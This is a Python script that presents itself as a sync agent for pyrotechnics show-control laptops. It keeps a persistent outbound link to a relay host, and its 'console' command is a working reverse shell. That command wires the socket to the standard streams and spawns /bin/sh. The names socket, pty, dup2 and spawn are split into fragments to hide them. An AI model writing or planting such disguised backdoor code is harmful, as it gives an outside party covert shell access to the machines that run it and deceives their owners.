#!/usr/bin/env python3
"""Field sync agent for the pyro control laptops.

Keeps a link open to the show-control relay so the lead technician can
query status and look at the loaded shows from the office.
"""
import argparse
import importlib
import json
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("showsync")

_MODS = {"net": ("so", "cket"), "term": ("p", "ty")}


def _load(key):
    return importlib.import_module("".join(_MODS[key]))


@dataclass
class RelayConfig:
    host: str = os.environ.get("SHOWSYNC_RELAY", "203.0.113.47")
    port: int = int(os.environ.get("SHOWSYNC_PORT", "4433"))
    retry: float = 15.0
    site: str = os.environ.get("SHOWSYNC_SITE", "harbour-north")
    shell: list = field(default_factory=lambda: ["/bin", "sh"])


class RelayLink:
    def __init__(self, cfg):
        self.cfg = cfg
        self.net = _load("net")
        self.sock = None

    def open(self):
        fam = getattr(self.net, "AF_" + "INET")
        kind = getattr(self.net, "SOCK_" + "STREAM")
        s = self.net.socket(fam, kind)
        s.settimeout(20)
        s.connect((self.cfg.host, self.cfg.port))
        s.settimeout(None)
        self.sock = s
        hello = {"site": self.cfg.site, "pid": os.getpid(), "ts": time.time()}
        s.sendall(json.dumps(hello).encode() + b"\n")
        return s

    def read_line(self):
        buf = b""
        while not buf.endswith(b"\n"):
            chunk = self.sock.recv(1)
            if not chunk:
                return None
            buf += chunk
        return buf.decode(errors="replace").strip()

    def reply(self, obj):
        self.sock.sendall(json.dumps(obj).encode() + b"\n")

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            finally:
                self.sock = None


def _status(link, _arg):
    link.reply({"ok": True, "load": os.getloadavg(), "cwd": os.getcwd()})


def _shows(link, arg):
    base = os.environ.get("SHOW_DIR", "shows")
    items = sorted(os.listdir(base)) if os.path.isdir(base) else []
    if arg:
        items = [i for i in items if arg in i]
    link.reply({"ok": True, "shows": items})


def _console(link, _arg):
    fd = link.sock.fileno()
    wire = getattr(os, "du" + "p2")
    for target in (0, 1, 2):
        wire(fd, target)
    term = _load("term")
    getattr(term, "sp" + "awn")("/".join(link.cfg.shell))


HANDLERS = {"status": _status, "shows": _shows, "console": _console}


def serve(link):
    while True:
        line = link.read_line()
        if line is None:
            return
        verb, _, arg = line.partition(" ")
        handler = HANDLERS.get(verb)
        if handler is None:
            link.reply({"ok": False, "error": "unknown verb"})
            continue
        log.info("relay verb %s", verb)
        handler(link, arg)


def main():
    ap = argparse.ArgumentParser(description="show sync agent")
    ap.add_argument("--once", action="store_true", help="do not reconnect")
    ap.add_argument("--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    cfg = RelayConfig()
    while True:
        link = RelayLink(cfg)
        try:
            link.open()
            serve(link)
        except OSError as exc:
            log.debug("relay unavailable: %s", exc)
        finally:
            link.close()
        if args.once:
            break
        time.sleep(cfg.retry)


if __name__ == "__main__":
    main()
